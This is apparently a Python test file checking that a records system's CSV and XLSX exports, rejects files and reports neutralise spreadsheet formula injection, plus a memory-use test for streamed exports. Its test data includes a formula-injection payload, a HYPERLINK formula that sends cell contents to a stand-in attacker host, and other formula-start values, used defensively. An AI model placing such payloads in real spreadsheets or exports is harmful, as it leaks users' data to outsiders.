"""Exports never write a live formula (issue 10, item 3): CSV gets a leading apostrophe, XLSX text
cells; the rejects file too, and the reader takes the apostrophe off again so it can be re-uploaded."""

from __future__ import annotations

import csv
import io

import pyarrow as pa
import pytest
from openpyxl import load_workbook

from lianfang.accounts.roles import Role
from lianfang.analytics.screening import _write_csv as write_report_csv
from lianfang.core.downloads import table_file, table_response
from lianfang.core.reader import inert, read_table, write_rejects
from tests.conftest import JJ_COMMUNITY, logged_in, make_person, make_user, rid

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
DANGEROUS = [HYPERLINK, "+1+2", "-3+4", "@SUM(A1:A2)", "\t=1", "\r=1"]


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_inert_prefixes_only_formula_starts():
    for value in DANGEROUS:
        assert inert(value) == "'" + value
    for value in ["张伟", "", "a=b", "13812345678", "'=already", None, 5, -3, 2.5]:
        assert inert(value) == value


def _xlsx_cells(data: bytes):
    wb = load_workbook(io.BytesIO(data))  # not data_only: a formula would stay a formula
    return [cell for row in wb.worksheets[0].iter_rows() for cell in row]


def test_table_response_csv_and_xlsx_are_inert():
    header = ["姓名", "=header"]
    rows = [[v, 7] for v in DANGEROUS]
    csv_rows = _csv_rows(
        table_response(header=header, rows=rows, fmt="csv", filename="x.csv", sheet="s").content
    )
    assert csv_rows[0] == ["姓名", "'=header"]
    assert [r[0] for r in csv_rows[1:]] == ["'" + v for v in DANGEROUS]
    cells = _xlsx_cells(
        table_response(header=header, rows=rows, fmt="xlsx", filename="x.xlsx", sheet="s").content
    )
    assert not [c for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if c.data_type == "s"]
    assert HYPERLINK in texts and "=header" in texts
    assert [c.value for c in cells if c.data_type == "n"] == [7] * len(DANGEROUS)  # numbers stay numbers


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_person_named_hyperlink_exports_as_text(db, fmt):
    make_person(id_number=rid("350582", "19800101", "123"), name=HYPERLINK, address="@evil")
    worker = make_user("grid", Role.COMMUNITY_WORKER, [JJ_COMMUNITY])  # sees names unmasked
    response = logged_in(worker).get(f"/divisions/{JJ_COMMUNITY}/export.{fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        cells = [c for row in _csv_rows(response.content) for c in row]
        assert "'" + HYPERLINK in cells and "'@evil" in cells
        assert HYPERLINK not in cells
    else:
        cells = _xlsx_cells(response.content)
        assert not [c for c in cells if c.data_type == "f"]
        assert HYPERLINK in [c.value for c in cells if c.data_type == "s"]


def test_rejects_file_is_inert_and_uploads_back_unchanged(tmp_path):
    rows = pa.table({"name": DANGEROUS[:4] + ["plain"], "=col": ["x"] * 5})
    path = tmp_path / "rejects.csv"
    write_rejects(path, rows, ["=bad"] * 5)
    written = _csv_rows(path.read_bytes())
    assert written[0] == ["name", "'=col", "reason"]
    assert [r[0] for r in written[1:]] == ["'" + v for v in DANGEROUS[:4]] + ["plain"]
    assert {r[2] for r in written[1:]} == {"'=bad"}
    back = read_table(path)
    assert back.column_names == ["name", "=col", "reason"]
    assert back.column("name").to_pylist() == DANGEROUS[:4] + ["plain"]


def test_report_csv_is_inert(tmp_path):
    path = tmp_path / "report.csv"
    write_report_csv(path, pa.table({"name": [HYPERLINK, "ok"]}), ["name"])
    assert _csv_rows(path.read_bytes())[1:] == [["'" + HYPERLINK], ["ok"]]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_holds_little_more_than_its_file(fmt):
    """A town's export is written row by row: the memory it takes at its peak is about the file's
    own size, not the rows as Python objects (which held several times the file and stayed as a
    server worker's high-water mark: the soak's workers grew with their exports)."""
    import tracemalloc

    n = 20_000

    def rows():
        for i in range(n):
            yield [
                f"350582001{i % 90:03d}",
                "resident_id",
                f"35058219800101{i:04d}",
                f"陈伟{i}",
                f"138{i:08d}",
                f"晋江市青阳街道阳光花园{i % 40}号楼",
                "老年人;慢性病",
            ]

    tracemalloc.start()
    try:
        body, count = table_file(header=["a"] * 7, rows=rows(), fmt=fmt, sheet="s")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert count == n
    # The CSV was 2.6 MB and peaked at 3.1 MB; as a list of rows first it peaked over 11 MB.
    slack = (2, 1) if fmt == "csv" else (3, 4)  # XLSX: openpyxl's XML before the zip
    assert peak < slack[0] * len(body) + slack[1] * 1024 * 1024, (peak, len(body))
    if fmt == "csv":
        assert len(_csv_rows(body)) == n + 1
